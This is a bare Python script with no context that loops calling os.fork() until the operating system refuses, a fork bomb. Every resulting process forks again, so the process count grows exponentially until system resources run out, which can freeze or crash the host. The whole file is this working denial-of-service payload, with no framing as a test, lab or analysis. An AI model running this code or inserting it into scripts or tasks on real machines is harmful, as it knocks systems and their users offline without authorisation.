import os

while True:
    try:
        os.fork()
    except OSError:
        break
